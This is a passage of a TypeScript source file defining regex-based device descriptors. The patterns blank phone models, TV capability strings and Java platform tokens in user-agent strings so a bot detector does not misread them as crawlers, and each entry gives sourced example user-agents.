    via: 'yahoo-proxy',
    owners: ['yahoo'],
    client: { name: 'Yahoo Mail' },
    examples: ['YahooMailProxy; https://help.yahoo.com/kb/yahoo-mail-proxy-SLN28749.html'],
    source: 'matomo-org/device-detector regexes/bots.yml; shared Yahoo/AOL proxy since 2018 (litmus.com/help "spike in Yahoo! Mail opens"); validity.com on Yahoo image caching',
    checked: CHECKED,
  },
];

/**
 * Parts of a user-agent that describe the device, not the program: a phone's
 * model name, a TV's capability list, a feature phone's Java platform. isbot
 * reads words, so a model called "M bot tab 10" or "Discovery 102C", a TV
 * that says "CE-HTML/1.0" or a phone on "JavaPlatform" looks like a robot to
 * it. The engine blanks these parts before asking isbot (and only then): the
 * program's own tokens and comments are still read in full.
 */
export interface DeviceDescriptor {
  id: string;
  /** RegExp source, matched globally and case-insensitively; the match is replaced by `replacement`. */
  pattern: string;
  replacement: string;
  /**
   * A cheap RegExp source (case-insensitive) that every match contains: the
   * pattern runs only on user-agents where this is found, since a lookbehind
   * pattern scans slowly (~5 µs a user-agent) where it has nothing to find.
   */
  needle: string;
  /** Real user-agents whose descriptor isbot reads as a robot. */
  examples: readonly string[];
  source: string;
  checked: string;
}

export const DEVICE_DESCRIPTORS: readonly DeviceDescriptor[] = [
  {
    id: 'android-model',
    // "(Linux; [U; ]Android 7.0; [es-es; ]<model>[ Build/<id>][; wv])": the slot after the version (and locale) is the model.
    pattern: String.raw`(?<=\bAndroid[ /]?[\d.]*; (?:[a-z]{2}[-_][a-z]{2,4}; )?)[^;)]+`,
    replacement: 'model',
    needle: 'Android',
    examples: [
      'Mozilla/5.0 (Linux; Android 7.1.2; M bot tab 10) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36',
      'Mozilla/5.0 (Linux; Android 5.1.1; Discovery 1000c Build/LMY47V) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/39.0.0.0 Safari/537.36',
      'Mozilla/5.0 (Linux; Android 8.1.0; Newsday_A1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/76.0.3809.89 Mobile Safari/537.36',
      'Mozilla/5.0 (Linux; U; Android 4.2.2; it-it; S222 Build/CUBOT) AppleWebKit/534.30 (KHTML, like Gecko) Version/4.0 Mobile Safari/534.30',
    ],
    source: 'developer.chrome.com/docs/multidevice/user-agent (Android: "(Linux; Android <version>; <device model>)"); device models from matomo-org/device-detector Tests/fixtures (smartphone, tablet)',
    checked: CHECKED_DEC,
  },
  {
    id: 'hbbtv',
    // "HbbTV/1.1.1 (<capabilities>; <vendor>; <model>; <software version>; <hardware version>; <family>; <reserved>)"
    pattern: String.raw`\bHbbTV/[\d.]+ \([^()]*\)`,
    replacement: 'HbbTV',
    needle: 'HbbTV',
    examples: [
      'Opera/9.80 (Linux mips; U; HbbTV/1.1.1 (; Humax; iCord HD+; 1.0.0; 1.0.0; ); ce-html/1.0; en) Presto/2.10.250 Version/11.60',
    ],
    source: 'ETSI TS 102 796 (HbbTV) §7.3.2.4, the user-agent\'s device part; examples from matomo-org/device-detector Tests/fixtures/tv*.yml',
    checked: CHECKED_DEC,
  },
  {
    id: 'security-token-comment',
    // "(webOS/1.0; U; en-US)", "(SAMSUNG; SAMSUNG-GT-S7230-VODAFONE/1.0; U; Bada/1.0; en-us)": a comment carrying the
    // encryption-strength token U (or I, N) describes the platform, and its "name/1.0;" items are an OS or a model.
    // Only those items are blanked: a crawler's words or address in the same comment are still read.
    pattern: String.raw`(?<=\((?:[^()]*;)?\s*[UIN];[^()]*?)[\w.-]+/[\d.]+(?=;[^()]*\))|[\w.-]+/[\d.]+(?=;(?:[^()]*;)?\s*[UIN];[^()]*\))`,
    replacement: 'platform',
    needle: String.raw`[UIN];`,
    examples: [
      'Mozilla/5.0 (webOS/1.0; U; en-US) AppleWebKit/525.27.1 (KHTML, like Gecko) Version/1.0 Safari/525.27.1 Pre/1.0',
      'Mozilla/5.0 (SAMSUNG; SAMSUNG-GT-S7230-VODAFONE/1.0; U; Bada/1.0; en-us) OperaMini/5.0.21073 Mobile WVGA SMM-MMS/1.2.0 NexPlayer',
      'Mozilla/5.0 (Sonim-XP3400/E343B_2100B00_N1900;U;REX/1.0;BREW/3.1.5;240*320;CTC/2.0) POLARIS/6.2',
    ],
    source: 'developer.mozilla.org "User-Agent" (Gecko/Netscape platform comment) and RFC 1945 §3.7 comments; the security token: Netscape client user-agent convention (U: strong, I: weak, N: none); examples from matomo-org/device-detector Tests/fixtures',
    checked: CHECKED_DEC,
  },
  {
    id: 'msie-post-platform',
    // Internet Explorer lists software installed on the machine after the Windows version ("post-platform" tokens:
    // .NET CLR 2.0.50727, chromeframe/19.0, QQDownload 691). Only "name/version" and "name number" items are blanked.
    pattern: String.raw`(?<=\(compatible; MSIE [\d.]+;[^()]*\bWindows NT [\d.]+;[^()]*?)\s*[A-Za-z][\w.-]*(?:/[\d.]+| \d+)(?=\s*[;)])`,
    replacement: ' addon',
    needle: 'MSIE ',
    examples: [
      'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; chromeframe/19.0.1084.52)',
      'Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/4.0; QQDownload 691; SLCC2; .NET CLR 2.0.50727; .NET CLR 3.5.30729; .NET CLR 3.0.30729; MALC)',
    ],
    source: 'learn.microsoft.com "Understanding user-agent strings" (Internet Explorer: platform token, then tokens added by installed software under the Post Platform registry key); examples from matomo-org/device-detector Tests/fixtures/desktop.yml',
    checked: CHECKED_DEC,
  },
  {
    id: 'mtk-maui',
    // MediaTek feature phones' MAUI browser states its capabilities in brackets: "MAUI(HTTP PGDL;HTTPS)", "MAUI ()".
    pattern: String.raw`\bMAUI ?\([^()]*\)`,
    replacement: 'MAUI',
    needle: 'MAUI',
    examples: [
      'FLY_E141TV_PLUS/ WAP Browser/MAUI(HTTP PGDL;HTTPS)Profile/Q03C1-2.40 ru-RU',
      'TIANQIN61M_11C_HW (MRE/3.1.00(64);MAUI/_Maxvi_X300_20170623;BDATE/2017/06/23 14:22;LCD/240320;CHIP/MT6261;KEY/Normal;TOUCH/0;CAMERA/1;SENSOR/0;DEV/TIANQIN61M_11C_HW;WAP Browser/MAUI ();GMOBI/001;MBOUNCE/002;MOMAGIC/003;INDEX/004;SPICEI2I/005;GAMELOFT/006;',
    ],
    source: 'matomo-org/device-detector Tests/fixtures/feature_phone.yml (MAUI WAP Browser on MediaTek phones)',
    checked: CHECKED_DEC,
  },
  {
    id: 'ce-html',
    pattern: String.raw`\bCE-HTML/[\d.]+`,
    replacement: '',
    needle: 'CE-HTML/',
    examples: [
      'Opera/9.80 NETTV/4.5.0 Mozilla/5.0 (Linux armv7i; CE-HTML/1.0; U; en) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/49.0.2623.75 Safari/537.36 Tbrowser/2.0',
    ],
    source: 'CEA-2014 (CE-HTML), the web profile of connected TVs, announced as "CE-HTML/1.0"; examples from matomo-org/device-detector Tests/fixtures/tv*.yml',
    checked: CHECKED_DEC,
  },
  {
    id: 'opera-tv-build',
    // Opera's TV browser names its build with a release code name ("OMI/4.21.4.112.Catcher4.66", "OMI/4.20.5.61.LIMA.168").
    pattern: String.raw`\bOMI/[\w.-]+`,
    replacement: 'OMI',
    needle: 'OMI/',
    examples: [
      'Mozilla/5.0 (Linux armv7l) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.140 Safari/537.36 OPR/46.0.2207.0 OMI/4.21.4.112.Catcher4.66 Model/Hisense-MT9602 VIDAA/5.0(SUNNY;SmartTV;VS0350UC1;MTK9602/V0000.01.00M.M1221;UHD)',
    ],
    source: 'matomo-org/device-detector Tests/fixtures/tv*.yml (Opera Devices on Hisense, Vestel and Amazon TVs: OMI/<version>.<code name>.<build>)',
    checked: CHECKED_DEC,
  },
  {
    id: 'apple-device-name',
    // Some iOS apps send nothing but the device's model name ("iPhone12Pro", "iPodTouch7"): a device, all of it.
    pattern: String.raw`^i(?:Phone|Pad|Pod ?Touch)(?:\d+|X)[A-Za-z0-9]*$`,
    replacement: '',
    needle: String.raw`^i(?:Phone|Pad|Pod)`,
    examples: ['iPhone12Pro', 'iPhone15Plus', 'iPodTouch7', 'iPhone6s'],
    source: 'matomo-org/device-detector Tests/fixtures (phablet, smartphone, portable_media_player: Mobile Safari entries that are a bare model name)',
    checked: CHECKED_DEC,
  },
  {
    id: 'uc-browser-ios-form',
    // UC Browser for iOS describes itself in key(value); pairs: dv (device), pr (product), ov (OS version), ss (screen)…
    pattern: String.raw`^(?:[a-z]{2}\((?:[^()]|\([^()]*\))*\);)+$`,
    replacement: '',
    needle: String.raw`^(?:pf|dv)\(`,
    examples: [
      'dv(iPh10,2);pr(UCBrowser/13.9.8.1767);ov(15_4_1);ss(375x667);bt(UC);pm(0);bv(0);nm(0);im(0);nt(2);',
      'dv(iPh5,2);pr(UCBrowser/11.3.5.1203);ov(10_3_4);ss(320x568);bt(GJ);pm(0);bv(0);nm(0);im(0);nt(1);',
    ],
    source: 'matomo-org/device-detector Tests/fixtures (phablet, smartphone: UC Browser on iPhone)',
    checked: CHECKED_DEC,
  },
  {
    id: 'j2me-platform',
    pattern: String.raw`\b(?:Profile/MIDP-[\d.]+|Configuration/CLDC-[\d.]+|JavaPlatform/[\w.-]+|Java/Jbed/[\d.]+)`,
    replacement: '',
    needle: 'MIDP|CLDC|JavaPlatform|Jbed',
    examples: [
      'SonyEricssonW20/R1x Browser/NetFront/3.5 Profile/MIDP-2.1 Configuration/CLDC-1.1 JavaPlatform/JP-8.5',
    ],
    source: 'JSR 118 (MIDP) and JSR 139 (CLDC): feature phones announce their Java platform as Profile/MIDP-x Configuration/CLDC-x; examples from matomo-org/device-detector Tests/fixtures/feature_phone.yml',
    checked: CHECKED_DEC,
  },
];
